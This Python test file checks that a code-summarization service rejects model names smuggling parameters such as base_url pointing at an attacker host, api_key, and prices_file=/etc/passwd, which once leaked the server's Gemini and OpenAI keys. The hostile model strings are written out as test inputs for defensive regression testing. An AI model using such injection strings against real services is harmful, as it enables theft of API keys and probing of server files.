"""Attack 1: a request's ``model`` chose the endpoint, and the server sent its own keys there.

``gemini-2.5-flash?base_url=http://attacker/`` made the server call that URL with
``x-goog-api-key: <GEMINI_API_KEY>``; ``openai:gpt-4o?base_url=...`` sent
``Authorization: Bearer <OPENAI_API_KEY>``; ``prices_file=`` probed the server's files and
``latency_ms=1e12`` slept forever. Now a request may only name a model the operator offers.
"""

from __future__ import annotations

import uuid
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from codi_eval.store.models import Trace
from tests.api_helpers import Api, assert_error
from tests.security.conftest import Listener

SERVER_GEMINI_KEY = "server-gemini-key-NEVER-SENT-ANYWHERE"
SERVER_OPENAI_KEY = "sk-server-openai-key-NEVER-SENT"
FIB = "def fib(n):\n    return n if n < 2 else fib(n - 1) + fib(n - 2)\n"


@pytest.fixture(autouse=True)
def server_keys(monkeypatch: pytest.MonkeyPatch) -> None:
    # The server holds real-looking keys; the SDKs would read them from here.
    monkeypatch.setenv("GEMINI_API_KEY", SERVER_GEMINI_KEY)
    monkeypatch.setenv("OPENAI_API_KEY", SERVER_OPENAI_KEY)
    monkeypatch.delenv("GOOGLE_GEMINI_BASE_URL", raising=False)
    monkeypatch.delenv("OPENAI_BASE_URL", raising=False)


def hostile_names(url: str) -> list[str]:
    return [
        f"gemini-2.5-flash?base_url={url}/",
        f"openai:gpt-4o?base_url={url}/v1",
        f"openai:gpt-4o?base_url={url}/v1&api_key=x",
        f"gemini-2.5-flash?api_key={SERVER_GEMINI_KEY}",
        "gemini-2.5-flash?prices_file=/etc/passwd",
        "gemini-2.5-flash?prices_file=/no/such/file",
        "gemini-2.5-flash?timeout_s=100000",
        "offline?latency_ms=1e12",
        "offline?latency_ms=inf",
        "offline?latency_ms=nan",
        "offline?latency_ms=10",
        "gemini-2.5-flash",  # well-formed, but not offered by this server
        f"openai:{url}",
        url,
    ]


async def test_no_model_string_reaches_a_listener_and_each_is_400_naming_model(
    pg_api: Api, listener: Listener
) -> None:
    alice = await pg_api.user("alice")
    await pg_api.call("PATCH", "/users/me/opik-settings", alice, json={"opik_enabled": True})
    for name in hostile_names(listener.url):
        status, body = await pg_api.call(
            "POST", "/summarize/code", alice, json={"code": FIB, "model": name}
        )
        assert_error(status, body, 400, "invalid_value", "model")
        assert "offline" in body["error"]["message"]  # it says what is offered
    assert listener.connections == 0 and listener.received == b""
    assert await pg_api.count(Trace) == 0


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)
@given(
    suffix=st.text(alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), max_size=40),
    prefix=st.sampled_from(["offline", "gemini-2.5-flash", "openai:gpt-4o", "", "x"]),
    param=st.sampled_from(["", "?base_url=", "?api_key=", "?latency_ms=", "?prices_file="]),
)
async def test_any_model_string_is_either_offered_or_refused_before_any_call(
    pg_api: Api, listener: Listener, prefix: str, param: str, suffix: str
) -> None:
    name = prefix + param + (listener.url if param.endswith("url=") else suffix)
    alice = await pg_api.user(f"u-{uuid.uuid4().hex}")
    status, body = await pg_api.call(
        "POST", "/summarize/code", alice, json={"code": FIB, "model": name}
    )
    if name == "offline":
        assert status == 200
    else:
        assert_error(status, body, 400, "invalid_value", "model")
    assert listener.connections == 0


async def test_an_offered_gemini_model_goes_only_where_the_operator_pointed_it(
    pg_store_url: str, aiohttp_client: Any, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The operator's configuration decides the endpoint; the key goes there and only there."""
    from tests.api_helpers import _api
    from tests.servers.gemini_server import GeminiServer

    async with GeminiServer(require_api_key=SERVER_GEMINI_KEY) as gemini:
        monkeypatch.setenv("GOOGLE_GEMINI_BASE_URL", gemini.base_url)
        offered = (("offline", "offline"), ("gemini-2.5-flash", "gemini-2.5-flash"))
        async for api in _api(pg_store_url, aiohttp_client, api_models=offered):
            alice = await api.user("alice")
            status, body = await api.call(
                "POST",
                "/summarize/code",
                alice,
                json={"code": FIB, "model": "gemini-2.5-flash", "density_iterations": 1},
            )
            assert status == 200, body
            attack = f"gemini-2.5-flash?base_url={listener.url}/"
            status, body = await api.call(
                "POST", "/summarize/code", alice, json={"code": FIB, "model": attack}
            )
            assert_error(status, body, 400, "invalid_value", "model")
        assert gemini.requests and all(
            r.headers.get("x-goog-api-key") == SERVER_GEMINI_KEY for r in gemini.requests
        )
    assert listener.connections == 0
    assert SERVER_GEMINI_KEY.encode() not in listener.received


def test_a_spec_with_a_key_in_a_model_name_exits_2_and_stores_nothing(tmp_path: Any) -> None:
    from tests.cli_helpers import ROOT, run_cli, scalar

    store = tmp_path / "store.db"
    db = f"sqlite:///{store}"
    for model in (
        "gemini-2.5-flash?api_key=leaked-key-123",
        "openai:x?base_url=http://u:leaked@h/",
    ):
        spec = tmp_path / "spec.yaml"
        spec.write_text(
            f"name: leaky\ndataset: {ROOT / 'datasets/quickstart.jsonl'}\n"
            f"matrix: {{prompt: [cod_iteration@1], model: ['{model}']}}\n"
        )
        done = run_cli("run", str(spec), db_url=db)
        assert done.returncode == 2, done.stderr
        assert "matrix.model[0]" in done.stderr and "environment" in done.stderr
        assert "Traceback" not in done.stderr
        assert not store.exists() or scalar(db, "select count(*) from experiments") == 0
